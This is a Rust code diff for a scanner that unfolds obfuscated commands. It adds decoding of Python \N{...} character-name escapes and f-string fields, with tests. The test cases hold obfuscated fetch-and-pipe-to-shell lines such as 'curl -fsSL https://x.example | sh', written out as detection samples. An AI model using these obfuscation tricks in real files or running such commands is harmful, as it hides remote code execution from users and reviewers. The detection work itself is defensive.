@@ -73,6 +73,73 @@ static CHR: LazyLock<Regex> = LazyLock::new(|| {
     )
 });
 static NUMBER: LazyLock<Regex> = LazyLock::new(|| re(r"\d+"));
+/// A character by its Unicode name, as Python writes it in a string
+/// (`"\N{LATIN SMALL LETTER C}"`).
+static NAMED_CHAR: LazyLock<Regex> = LazyLock::new(|| re(r"\\N\{([A-Za-z][A-Za-z -]{1,40})\}"));
+
+/// The ASCII character a Unicode name names (`LATIN SMALL LETTER C`,
+/// `DIGIT SEVEN`, `VERTICAL LINE`): what Python's `\N{…}` escape spells.
+fn named_ascii(name: &str) -> Option<char> {
+    let name = name.to_ascii_uppercase();
+    let letter = |rest: &str| {
+        let mut chars = rest.chars();
+        match (chars.next(), chars.next()) {
+            (Some(c), None) if c.is_ascii_uppercase() => Some(c),
+            _ => None,
+        }
+    };
+    if let Some(rest) = name.strip_prefix("LATIN SMALL LETTER ") {
+        return letter(rest).map(|c| c.to_ascii_lowercase());
+    }
+    if let Some(rest) = name.strip_prefix("LATIN CAPITAL LETTER ") {
+        return letter(rest);
+    }
+    const DIGITS: [&str; 10] = [
+        "ZERO", "ONE", "TWO", "THREE", "FOUR", "FIVE", "SIX", "SEVEN", "EIGHT", "NINE",
+    ];
+    if let Some(rest) = name.strip_prefix("DIGIT ") {
+        return DIGITS
+            .iter()
+            .position(|d| *d == rest)
+            .and_then(|i| char::from_digit(i as u32, 10));
+    }
+    const NAMES: &[(&str, char)] = &[
+        ("SPACE", ' '),
+        ("EXCLAMATION MARK", '!'),
+        ("QUOTATION MARK", '"'),
+        ("NUMBER SIGN", '#'),
+        ("DOLLAR SIGN", '$'),
+        ("PERCENT SIGN", '%'),
+        ("AMPERSAND", '&'),
+        ("APOSTROPHE", '\''),
+        ("LEFT PARENTHESIS", '('),
+        ("RIGHT PARENTHESIS", ')'),
+        ("ASTERISK", '*'),
+        ("PLUS SIGN", '+'),
+        ("COMMA", ','),
+        ("HYPHEN-MINUS", '-'),
+        ("FULL STOP", '.'),
+        ("SOLIDUS", '/'),
+        ("COLON", ':'),
+        ("SEMICOLON", ';'),
+        ("LESS-THAN SIGN", '<'),
+        ("EQUALS SIGN", '='),
+        ("GREATER-THAN SIGN", '>'),
+        ("QUESTION MARK", '?'),
+        ("COMMERCIAL AT", '@'),
+        ("LEFT SQUARE BRACKET", '['),
+        ("REVERSE SOLIDUS", '\\'),
+        ("RIGHT SQUARE BRACKET", ']'),
+        ("CIRCUMFLEX ACCENT", '^'),
+        ("LOW LINE", '_'),
+        ("GRAVE ACCENT", '`'),
+        ("LEFT CURLY BRACKET", '{'),
+        ("VERTICAL LINE", '|'),
+        ("RIGHT CURLY BRACKET", '}'),
+        ("TILDE", '~'),
+    ];
+    NAMES.iter().find(|(n, _)| *n == name).map(|(_, c)| *c)
+}
 static QUOTED: LazyLock<Regex> = LazyLock::new(|| re(r#""([^"\n]{3,})"|'([^'\n]{3,})'"#));
 
 /// Words that say a file decodes base64 (`base64 -d`, `b64decode`,
@@ -95,7 +162,7 @@ const DECODE_WORDS: [&[&str]; 6] = [
         "reverse(",
     ],
     &["rot13", "rot_13", "rot-13", "n-za-m"],
-    &["chr(", "[char]", "fromcharcode"],
+    &["chr(", "[char]", "fromcharcode", "\\n{"],
     &[
         "home",
         "profile",
@@ -206,6 +273,13 @@ pub(super) fn unfold(text: &str, base64: bool) -> Option<Unfolded> {
             l = HEX_RUN
                 .replace_all(&l, |c: &Captures| {
                     printable(hex::decode(&c[0]).ok()).unwrap_or_else(|| c[0].to_owned())
+                })
+                .into_owned();
+        }
+        if chars && l.contains("\\N{") {
+            l = NAMED_CHAR
+                .replace_all(&l, |c: &Captures| {
+                    named_ascii(&c[1]).map_or_else(|| c[0].to_owned(), String::from)
                 })
                 .into_owned();
         }
@@ -379,6 +453,28 @@ fn concat(line: &mut String) {
 fn expand(line: &str, values: &HashMap<String, String>) -> String {
     static NAME: LazyLock<Regex> =
         LazyLock::new(|| re(r"(\$\{?|%)?\b([A-Za-z_][A-Za-z0-9_]*)\b(\}|%)?(\s*=[^=])?"));
+    // Python's f-strings: `f"{fetch} {src}"` holds the values themselves.
+    static FIELD: LazyLock<Regex> = LazyLock::new(|| re(r"\{([A-Za-z_][A-Za-z0-9_]*)\}"));
+    // The prefix goes with the fields, so the string reads as the shell
+    // gets it (`f"{fetch} …"` → `"curl -fsSL …"`).
+    static PREFIX: LazyLock<Regex> = LazyLock::new(|| re(r#"(^|[^\w])[fF][rR]?(["'])"#));
+    let fields;
+    let line = if line.contains("f\"") || line.contains("f'") {
+        let filled = FIELD.replace_all(line, |c: &Captures| {
+            values
+                .get(&c[1])
+                .cloned()
+                .unwrap_or_else(|| c[0].to_owned())
+        });
+        fields = if filled != line {
+            PREFIX.replace_all(&filled, "$1$2").into_owned()
+        } else {
+            filled.into_owned()
+        };
+        &*fields
+    } else {
+        line
+    };
     NAME.replace_all(line, |c: &Captures| {
         let whole = c[0].to_owned();
         if c.get(4).is_some() {
@@ -545,6 +641,10 @@ mod tests {
             ("c\\url -s https://x.example/i | sh", "curl -s"),
             ("c''url https://x.example | sh", "curl https"),
             ("A=cu; B=rl; $A$B -s https://x.example | sh", "curl -s"),
+            (
+                "fetch = \"\\N{LATIN SMALL LETTER C}url -fsSL\"\nrun = \"sh\"\nline = f\"{fetch} https://x.example \\N{VERTICAL LINE} {run}\"",
+                "curl -fsSL https://x.example | sh",
+            ),
             ("curl -s https://x.example | env bash", "| bash"),
             ("curl -s https://x.example | $SHELL", "| sh"),
             (
